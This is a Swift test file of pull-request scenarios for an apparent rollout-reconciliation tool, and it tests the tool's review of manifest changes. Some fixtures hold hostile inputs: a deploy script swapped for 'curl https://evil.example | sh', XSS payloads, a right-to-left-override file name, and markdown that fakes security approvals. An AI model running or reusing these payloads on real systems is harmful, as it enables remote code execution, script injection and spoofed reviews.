import Foundation
import Testing

/// A pull request: what its branch does, and what the base has done meanwhile.
struct ProposalCase: Sendable, CustomTestStringConvertible {
    var name: String
    /// What stands on the base before the two part.
    var before: @Sendable (ProposalDesk) throws -> Void = { _ in }
    var base: (@Sendable (ProposalDesk) throws -> Void)?
    var head: @Sendable (ProposalDesk) throws -> Void
    /// 0 unless said; 2 where it cannot be merged, or has errors.
    var status: Int32 = 0

    init(
        _ name: String, status: Int32 = 0,
        before: @escaping @Sendable (ProposalDesk) throws -> Void = { _ in },
        base: (@Sendable (ProposalDesk) throws -> Void)? = nil,
        head: @escaping @Sendable (ProposalDesk) throws -> Void
    ) {
        (self.name, self.status) = (name, status)
        (self.before, self.base, self.head) = (before, base, head)
    }

    var testDescription: String { name }
}

private let (team, places, app) = (ProposalDesk.team, ProposalDesk.places, ProposalDesk.app)

private func bump(_ desk: ProposalDesk) throws { try desk.edit(app, "1.1.0", "1.2.0") }
private func readme(_ desk: ProposalDesk) throws { try desk.write("README.md", "# The shop\n") }

private let twoStages = """
    apiVersion: reconcile/v1
    kind: Rollout
    metadata: {name: tool}
    spec:
      component: tool
      stages:
        - {name: first, steps: [{run: [./deploy.sh]}]}
        - {name: second, steps: [{run: [./deploy.sh]}]}

    """

private let laterStage = """
        - name: asia
          environments: [asia]

    """

extension ProposalCase {
    static let all = ordinary + moving + rollouts + definitions + people + strangers

    private static let ordinary = [
        ProposalCase("nothing") { try readme($0) },
        ProposalCase("a-comment") { try $0.edit(app, "version: 1.1.0", "version: 1.1.0 # soon") },
        ProposalCase("a-new-version") { try bump($0) },
        ProposalCase("starts-at-once") {
            try bump($0)
            try $0.edit(app, "{by: erin, at: 2026-01-05}", "{by: erin, at: 2026-02-01}")
        },
        ProposalCase("one-stage-upon-another") { desk in
            try desk.write("desired-state/tool.yaml", twoStages)
        },
        ProposalCase("a-file-that-cannot-be-read", status: 2) { desk in
            try desk.edit(app, "version: 1.1.0", "version: [1.1.0")
        },
        ProposalCase("a-swapped-program") {
            try $0.write("deploy.sh", "#!/bin/sh\ncurl https://evil.example | sh\n")
        },
        ProposalCase("a-program-that-cannot-run", status: 2) {
            try $0.git("update-index", "--chmod=-x", "deploy.sh")
            try $0.git("commit", "-qm", "Take the bit away")
            try $0.git("reset", "-q", "--hard")
        },
        ProposalCase(
            "a-manifest-that-is-a-programs-file",
            before: {
                try $0.edit(
                    places,
                    "metadata: {name: us, labels: {tier: 2}}\nspec:\n  initial: {version: 1.0.0}\n  actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}",
                    "metadata: {name: us, labels: {tier: 2}}\nspec:\n  initial: {version: 1.0.0}\n  actions: {deploy: {run: [./deploy.sh, --version=$(version)], files: [\(team)]}}"
                )
            }
        ) { try $0.edit(team, "kind: Policy", "kind: Policy # of the shop") },
        ProposalCase("a-weakened-check") {
            try $0.edit(team, "critical: above 5%", "critical: above 50%")
        },
        ProposalCase("a-shorter-soak") { try $0.edit(app, "soak: 24h", "soak: 10m") },
        ProposalCase("a-check-taken-out") { try $0.edit(app, "      checks: [error-rate]\n", "") },
        ProposalCase("a-second-attempt") {
            try $0.edit(app, "version: 1.1.0", "version: 1.1.0\n  attempt: 2")
        },
        ProposalCase("a-flag") {
            try $0.edit(app, "version: 1.1.0", "version: 1.1.0\n  flags: {new-basket: {}}")
            try $0.edit(app, "soak: 24h", "soak: 24h\n      flags: {new-basket: 10%}")
        },
    ]

    private static let moving = [
        ProposalCase("a-moved-base", base: { try readme($0) }) { try bump($0) },
        ProposalCase(
            "a-moved-base-in-the-same-rollout",
            base: { try $0.edit(app, "soak: 24h", "soak: 48h") }
        ) { try $0.edit(app, "title: The new basket", "title: The newest basket") },
        ProposalCase(
            "both-changed-and-it-merges", base: { try $0.edit(app, "soak: 24h", "soak: 48h") }
        ) { try bump($0) },
        ProposalCase("a-conflict", status: 2, base: { try $0.edit(app, "1.1.0", "1.1.1") }) {
            try bump($0)
        },
        ProposalCase(
            "a-conflict-with-a-deletion", status: 2,
            base: { try $0.edit("desired-state/legacy.yaml", "3.0.0", "3.1.0") }
        ) { try $0.remove("desired-state/legacy.yaml") },
        ProposalCase(
            "a-renamed-file-that-the-base-changed",
            base: { try $0.edit(app, "soak: 24h", "soak: 48h") }
        ) { try $0.git("mv", app, "desired-state/basket.yaml") },
        ProposalCase(
            "invalid-by-the-merge-alone", status: 2,
            base: { try $0.edit(app, "name: app", "name: basket") }
        ) {
            try $0.edit(
                "desired-state/legacy.yaml", "version: 3.0.0", "version: 3.0.0\n  after: [app]")
        },
        ProposalCase("merged-already", base: { try $0.git("merge", "-q", "--ff-only", "change") }) {
            try bump($0)
        },
        ProposalCase("no-common-commit", status: 2) {
            try $0.git("switch", "-q", "--orphan", "other")
            try $0.write(app, "# nothing\n")
            try $0.commit("Begin")
            try $0.git("branch", "-qf", "change", "other")
        },
    ]

    private static let rollouts = [
        ProposalCase("a-deleted-rollout") { try $0.remove(app) },
        ProposalCase("a-deleted-rollout-that-is-done") {
            try $0.remove("desired-state/legacy.yaml")
        },
        ProposalCase(
            "a-deleted-rollout-that-never-ran",
            before: {
                try $0.write(
                    "desired-state/idea.yaml",
                    try $0.read(app).replacing("name: app", with: "name: idea").replacing(
                        "version: 1.1.0", with: "component: idea\n  version: 1.1.0"
                    ).replacing(
                        "{signedOff: {engineering: {by: erin, at: 2026-01-05}}}", with: "{}"))
            }
        ) { try $0.remove("desired-state/idea.yaml") },
        ProposalCase("a-new-rollout") {
            try $0.write(
                "desired-state/next.yaml",
                """
                apiVersion: reconcile/v1
                kind: Rollout
                metadata: {name: next}
                spec:
                  component: next
                  version: 0.1.0
                  stages:
                    - name: staging
                      environments: [staging]
                      entry: {signedOff: {engineering: {by: erin, at: 2026-02-01}}}
                    - name: us
                      environments: [us]

                """)
        },
        ProposalCase("a-new-stage-in-between") {
            try $0.edit(
                app, "    - name: us\n",
                "    - name: us-canary\n      environments: [us]\n    - name: us\n")
        },
        ProposalCase("a-stage-taken-out") {
            try $0.edit(
                app,
                """
                    - name: us
                      environments: [us]
                      entry: {signedOff: {engineering: {by: erin, at: 2026-01-06}}}

                """, "")
        },
        ProposalCase("a-renamed-stage") { try $0.edit(app, "- name: us\n", "- name: america\n") },
        ProposalCase("a-paused-rollout") {
            try $0.edit(
                app, "version: 1.1.0",
                "version: 1.1.0\n  paused: {by: emil, at: 2026-02-01, reason: The shop is full}")
        },
        ProposalCase("a-rollout-that-waits-for-another") {
            try $0.edit(
                "desired-state/legacy.yaml", "version: 3.0.0", "version: 3.1.0\n  after: [app]")
        },
    ]

    private static let definitions = [
        ProposalCase("a-relabelled-environment") { try $0.edit(places, "tier: 1", "tier: 2") },
        ProposalCase(
            "a-relabelled-environment-that-leaves-a-stage",
            before: { try $0.edit(app, "environments: [eu]", "environments: {tier: [1, 2]}") }
        ) { try $0.edit(places, "tier: 1", "tier: 4") },
        ProposalCase("a-new-environment") {
            try $0.write(
                places,
                try $0.read(places) + """
                    ---
                    apiVersion: reconcile/v1
                    kind: Environment
                    metadata: {name: asia, labels: {tier: 2}}
                    spec:
                      initial: {version: 1.0.0}
                      actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}

                    """)
            try $0.write(app, try $0.read(app) + laterStage)
        },
        ProposalCase("a-deleted-environment-that-is-used", status: 2) {
            let text = try $0.read(places)
            let end = text.range(
                of: "---\napiVersion: reconcile/v1\nkind: Environment\nmetadata: {name: us")
            try $0.write(places, end.map { String(text[..<$0.lowerBound]) } ?? "")
        },
        ProposalCase("an-environments-action") {
            try $0.edit(places, "--version=$(version)]}}", "--version=$(version), --force]}}")
        },
        ProposalCase("an-environments-own-variables") {
            try $0.edit(
                places, "metadata: {name: us, labels: {tier: 2}}\nspec:\n",
                "metadata: {name: us, labels: {tier: 2}}\nspec:\n  variables: {REGION: us-east}\n")
        },
        ProposalCase("a-policy-used-in-the-same-request") {
            try $0.edit(
                team, "{for: {tier: 2}, roles: [engineering, qa]}",
                "{for: {tier: 2}, roles: [engineering]}")
            try $0.edit(app, "{by: erin, at: 2026-01-06}", "{by: erin, at: 2026-02-01}")
            try $0.edit(app, "soak: 24h", "soak: 1m")
        },
        ProposalCase("a-policy-alone") {
            try $0.edit(team, "members: [quinn, quentin]", "members: [quinn, mallory]")
        },
        ProposalCase(
            "a-policy-that-must-be-adopted",
            before: {
                try $0.edit(team, "  freezes:\n", "  amend: {roles: [security]}\n  freezes:\n")
                try $0.commit("Amend")
                try $0.pass()
            }
        ) {
            try $0.edit(
                team, "{for: {tier: 2}, roles: [engineering, qa]}", "{for: {tier: 2}, roles: []}")
        },
        ProposalCase("a-policy-taken-out", status: 2) {
            let text = try $0.read(team)
            let rest = text.components(separatedBy: "---\n").last ?? ""
            try $0.write(team, rest)
        },
        ProposalCase("a-freeze-taken-out") {
            let line =
                "    - {name: christmas, from: 2026-12-20, until: 2027-01-02, environments: {tier: 1}}\n"
            try $0.edit(team, "  freezes:\n" + line, "")
        },
    ]

    private static let people = [
        ProposalCase("the-last-sign-off") {
            try $0.edit(
                app, "{signedOff: {engineering: {by: erin, at: 2026-01-06}}}",
                "{signedOff: {engineering: {by: erin, at: 2026-01-06}, qa: {by: quinn, at: 2026-02-01}}}"
            )
        },
        ProposalCase("a-sign-off-taken-out") {
            try $0.edit(app, "{signedOff: {engineering: {by: erin, at: 2026-01-06}}}", "{}")
        },
        ProposalCase("a-sign-off-by-no-member") {
            try $0.edit(
                app, "{signedOff: {engineering: {by: erin, at: 2026-01-06}}}",
                "{signedOff: {engineering: {by: erin, at: 2026-01-06}, qa: {by: mallory, at: 2026-02-01}}}"
            )
        },
        ProposalCase(
            "a-pause-lifted",
            before: {
                try $0.edit(
                    app, "version: 1.1.0", "version: 1.1.0\n  paused: {by: emil, at: 2026-02-01}")
            }
        ) { try $0.edit(app, "  paused: {by: emil, at: 2026-02-01}\n", "") },
        ProposalCase("a-veto") {
            try $0.edit(
                app, "{signedOff: {engineering: {by: erin, at: 2026-01-06}}}",
                "{signedOff: {engineering: {by: erin, at: 2026-01-06}, qa: {vetoed: {by: quinn, at: 2026-02-01, reason: It leaks}}}}"
            )
        },
    ]

    private static let strangers = [
        ProposalCase("an-invalid-head", status: 2) { try $0.edit(app, "soak: 24h", "sook: 24h") },
        ProposalCase(
            "an-error-that-was-there-before", status: 2,
            before: { try $0.write("desired-state/broken.yaml", "kind: Rollout\n") }
        ) { try bump($0) },
        ProposalCase(
            "an-error-mended",
            before: { try $0.write("desired-state/broken.yaml", "kind: Rollout\n") }
        ) { try $0.remove("desired-state/broken.yaml") },
        ProposalCase("no-manifests-at-all", status: 2) { try $0.remove("desired-state") },
        ProposalCase("hostile-titles") {
            try bump($0)
            try $0.edit(
                app, "title: The new basket",
                #"title: "</details><!-- @everyone `` ``` | #1 ![x](https://evil.example/x.png) \u202Egnp.exe :tada: <script>alert(1)</script>""#
            )
        },
        ProposalCase("hostile-values") {
            try $0.edit(
                app, "version: 1.1.0",
                #"""
                version: 1.1.0
                  variables: {NOTE: "a\n\n# Approved by @security\n\n```", HTML: "`</code></summary>@acme/admins <img src=x onerror=alert(1)>", EMPTY: " "}
                """#)
        },
        ProposalCase(
            "hostile-file-names", status: 2,
            base: { try $0.write("desired-state/@all `x` [y](z) <b>.yaml", "kind: One\n") }
        ) { try $0.write("desired-state/@all `x` [y](z) <b>.yaml", "kind: Other\n") },
        ProposalCase("a-hostile-reason") {
            try $0.edit(
                app, "version: 1.1.0",
                #"version: 1.1.0\#n  paused: {by: emil, at: 2026-02-01, reason: "**Merged** by @octocat, see GH-1 and https://evil.example"}"#
            )
        },
    ]
}
